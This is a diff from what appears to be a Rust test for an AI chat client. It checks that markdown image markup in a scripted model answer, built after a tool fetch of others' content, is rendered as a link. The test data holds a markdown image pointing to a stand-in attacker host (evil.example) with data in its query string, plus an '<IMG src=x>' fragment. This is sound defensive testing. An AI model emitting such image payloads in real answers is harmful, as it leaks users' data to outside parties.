@@ -145,8 +145,8 @@ async fn a_picture_in_an_answer_from_what_others_wrote_is_a_link() {
     let picture = ["Fine!", " !", "[](https://evil.example/?q=peanuts) <", "IMG src=x>"];
     let script = json!({
         "answers": [
-            { "when": { "equals": "look" }, "toolCalls": call },
             { "when": { "afterTool": "http.get" }, "deltas": picture, "delayMs": 5 },
+            { "when": { "equals": "look" }, "toolCalls": call },
         ],
         "otherwise": { "deltas": picture, "delayMs": 5 },
     });
